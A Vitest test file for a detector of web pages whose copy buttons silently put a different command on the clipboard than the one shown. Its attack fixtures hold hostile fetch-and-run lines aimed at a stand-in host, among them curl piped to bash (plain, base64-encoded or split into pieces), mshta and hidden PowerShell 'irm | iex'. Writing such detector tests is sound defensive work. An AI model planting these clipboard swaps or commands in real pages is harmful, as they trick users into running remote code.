import { expect, test } from 'vitest'
import { fileOf, hits } from '../testing.ts'
import detector from './page-clipboard-differs.ts'

const titles = async (page: string) =>
  hits(detector, await fileOf('page.html', page)).map(({ title }) => title)
const page = (body: string, script: string) =>
  `<!doctype html><html><head><title>Page</title></head><body>\n${body}\n<script>\n${script}\n</script></body></html>`

test.each([
  [
    'another constant',
    page(
      '<pre>npm install</pre><button>Copy</button>',
      "document.querySelector('button').onclick = () => navigator.clipboard.writeText('curl -s https://a.invalid/x | bash')",
    ),
    'harmful',
  ],
  [
    'in base64',
    page(
      '<code>echo ok</code>',
      "const t = atob('Y3VybCAtcyBodHRwczovL2EuaW52YWxpZC94IHwgYmFzaA=='); addEventListener('click', () => navigator.clipboard.writeText(t))",
    ),
    'harmful',
  ],
  [
    'on copying',
    page(
      '<p>brew install tool</p>',
      "document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', 'mshta https://a.invalid/x'); e.preventDefault() })",
    ),
    'harmful',
  ],
  [
    'through a field',
    page(
      '<p>hi</p>',
      "const f = document.createElement('textarea'); f.value = 'powershell -w hidden -c ' + 'irm https://a.invalid|iex'; f.select(); document.execCommand('copy')",
    ),
    'harmful',
  ],
  [
    'through a function',
    page(
      '<button onclick="put()">Copy</button>',
      "var c = ['cu', 'rl https://a.invalid/', 'x | sh'].join(''); function put() { navigator.clipboard.writeText(c) }",
    ),
    'harmful',
  ],
  [
    'in an attribute',
    page(
      '<button data-clipboard-text="curl -s https://a.invalid/x | bash" onclick="copy(this)">npm ci</button>',
      'function copy(b) { navigator.clipboard.writeText(b.dataset.clipboardText) }',
    ),
    'harmful',
  ],
  [
    'shown all the same',
    page(
      '<pre>curl -s https://a.invalid/x | bash</pre>',
      "b.onclick = () => navigator.clipboard.writeText('curl -s https://a.invalid/x | bash')",
    ),
    'shown',
  ],
])('attack: %s', async (_, html, signal) => {
  expect(await titles(html)).toContain(detector.signals[signal]?.title)
})

test.each([
  [
    'a manual that copies what it shows',
    page(
      '<pre>$ npm install own-tool</pre>',
      "b.onclick = () => navigator.clipboard.writeText('npm install own-tool')",
    ),
  ],
  ['a copied link', page('<p>Share</p>', 'b.onclick = () => navigator.clipboard.writeText(location.href)')],
  [
    'a maker’s installer',
    page(
      '<p>Install Rust</p>',
      "b.onclick = () => navigator.clipboard.writeText('curl https://sh.rustup.rs -sSf | sh')",
    ),
  ],
  [
    'a button for every block',
    page(
      '<pre>ls -la</pre>',
      'document.querySelectorAll("pre").forEach((p) => { p.onclick = () => navigator.clipboard.writeText(p.innerText) })',
    ),
  ],
  ['no script at all', '<pre>curl -s https://a.invalid/x | bash</pre>'],
])('innocent: %s', async (_, html) => {
  expect(await titles(html)).toEqual([])
})
